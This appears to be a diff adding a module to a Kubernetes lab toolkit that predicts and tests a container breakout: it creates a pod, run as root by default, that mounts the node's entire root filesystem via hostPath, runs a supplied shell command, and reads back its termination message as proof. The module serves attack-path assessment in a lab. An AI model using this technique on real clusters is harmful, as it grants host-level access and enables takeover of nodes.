@@ -1,0 +1,146 @@
+"""A pod that mounts the whole of its machine's files: what the breakouts have in common."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Callable
+from typing import TYPE_CHECKING, Any
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import Foothold, Model
+from labkit.model.pod_security import host_paths
+from labkit.model.rights import Action
+from labkit.techniques._lib.api.access import (
+    api_url,
+    apiserver_of,
+    caller_at,
+    may_write,
+    options_at,
+)
+from labkit.techniques._lib.api.ask import ask
+from labkit.techniques._lib.machines.admin import create, read, remove
+from labkit.techniques._lib.machines.reach import Answer, request
+from labkit.techniques._lib.technique import Prediction
+from labkit.techniques._lib.verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["MACHINE", "PLAIN", "WORKER", "break_out", "may_break_out", "plain_pod"]
+
+NAMESPACE, NAME, WORKER = "default", "labkit-breakout", "worker1"
+#: The namespace and the name of the pod that is created.
+PLAIN = (NAMESPACE, NAME)
+PODS = f"/api/v1/namespaces/{NAMESPACE}/pods"
+#: Where the machine's files are in the pod.
+MACHINE = "/machine"
+PATIENCE, ROOT, NOBODY_SPECIAL = 30.0, 0, 1000
+ACTION = Action("create", "pods", namespace=NAMESPACE)
+
+
+def may_break_out(model: Model, foothold: Foothold) -> Prediction:
+    """Predict whether a caller may create such a pod: the authorizers, then the admission."""
+    apiserver, caller = apiserver_of(model.environment), caller_at(model.environment, foothold)
+    allowed = may_write(model, caller, ACTION)
+    if not allowed.succeeds:
+        return allowed
+    admitted = host_paths(model.environment, apiserver, NAMESPACE)
+    if admitted.value != "admitted":
+        return Prediction(False, (str(admitted),))
+    return Prediction(True, (*allowed.because, str(admitted)))
+
+
+def break_out(
+    lab: Lab,
+    technique: str,
+    foothold: Foothold,
+    command: str,
+    proof: Callable[[str], str],
+    user: int = ROOT,
+) -> Verdict:
+    """Create the pod, wait for what its command leaves behind, and remove it.
+
+    Parameters
+    ----------
+    lab : Lab
+    technique, foothold : str
+    command : str
+        For a shell in the pod; what it writes to ``/dev/termination-log`` is shown to `proof`.
+    proof : callable
+        Says what the attacker has by it; raises :class:`ProbeError` where that is nothing.
+    user : int
+        Whose number the pod runs as.
+
+    Returns
+    -------
+    Verdict
+    """
+    try:
+        return ask(
+            lab,
+            technique,
+            foothold,
+            api_url(lab, PODS),
+            body=json.dumps(_with_machine(plain_pod(WORKER, command, user))).encode(),
+            options=options_at(lab.environment, foothold),
+            proof=lambda answer: proof(_left(lab, answer)),
+            control=lambda: _control(lab, foothold),
+        )
+    finally:
+        remove(lab, f"{PODS}/{NAME}")
+
+
+def plain_pod(node: str, command: str = "true", user: int = NOBODY_SPECIAL) -> dict[str, Any]:
+    """Return a pod that asks for nothing of its machine, and is bound to it already."""
+    container: dict[str, Any] = {
+        "name": "breakout",
+        "image": "labkit/workload:1",
+        "imagePullPolicy": "Never",
+        "command": ["sh", "-c", command],
+        "securityContext": {"runAsUser": user},
+    }
+    spec = {
+        "nodeName": node,
+        "restartPolicy": "Never",
+        "automountServiceAccountToken": False,
+        "containers": [container],
+    }
+    metadata = {"name": NAME, "namespace": NAMESPACE}
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}
+
+
+def _with_machine(pod: dict[str, Any]) -> dict[str, Any]:
+    spec = pod["spec"]
+    spec["containers"][0]["volumeMounts"] = [{"name": "machine", "mountPath": MACHINE}]
+    spec["volumes"] = [{"name": "machine", "hostPath": {"path": "/"}}]
+    return pod
+
+
+def _left(lab: Lab, answer: Answer) -> str:
+    """Wait for the pod's end, and return what it left behind."""
+    if json.loads(answer.body).get("kind") != "Pod":
+        raise ProbeError("the apiserver answered, but not with the pod")
+    deadline = time.monotonic() + PATIENCE
+    while not (said := _last_words(read(lab, f"{PODS}/{NAME}"))):
+        if time.monotonic() > deadline:
+            raise ProbeTimeout(f"the pod did not run within {PATIENCE:g} s")
+        time.sleep(0.2)
+    return said
+
+
+def _last_words(pod: Any) -> str:
+    for status in pod.get("status", {}).get("containerStatuses", ()):
+        return str(status["state"].get("terminated", {}).get("message", ""))
+    return ""
+
+
+def _control(lab: Lab, foothold: Foothold) -> str:
+    """Show, after a refusal, that a pod that asks for nothing of its machine may be created."""
+    pod, dry = plain_pod(WORKER), f"{PODS}?dryRun=All"
+    body = json.dumps(pod).encode()
+    options = options_at(lab.environment, foothold)
+    if not request(lab, api_url(lab, dry), foothold=foothold, body=body, options=options).refusal:
+        return "the same caller may create a pod that mounts nothing (a dry run)"
+    create(lab, dry, pod)
+    return "the administrator may create a pod that mounts nothing (a dry run)"
